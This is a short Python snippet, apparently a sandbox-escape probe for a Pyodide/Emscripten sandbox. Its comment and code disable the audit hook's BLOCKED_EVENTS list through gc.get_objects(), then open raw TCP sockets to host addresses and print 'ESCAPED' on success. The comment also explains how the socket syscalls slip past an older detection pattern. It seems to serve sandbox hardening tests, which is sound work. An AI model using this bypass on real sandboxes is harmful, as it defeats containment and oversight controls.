# Route (gets past the Python-level blocks, and reaches JavaScript without touching Pyodide's FFI):
# the audit hook's refusals live in its module's globals, which gc.get_objects() hands out; emptying
# BLOCKED_EVENTS lets _socket create a socket. Emscripten's SOCKFS then opens a WebSocket in the
# interpreter's realm. The socket/connect imports (`__syscall_socket`, `__syscall_connect`) are
# outside the old /js|proxy|hiwire/ pattern, so only a default-deny tripwire sees them; the sandbox
# process's network namespace leaves nothing to connect to.
import _socket
import gc

for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") == "_audit" and "BLOCKED_EVENTS" in getattr(obj, "__globals__", {}):
        obj.__globals__["BLOCKED_EVENTS"].clear()
for address in [a for a in HOST_ADDRESSES if a != "127.0.0.1"] or ["127.0.0.1"]:
    raw = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    raw.settimeout(2)
    raw.connect((address, TCP_PORT))
    print(f"ESCAPED: connected to the host at {address}")
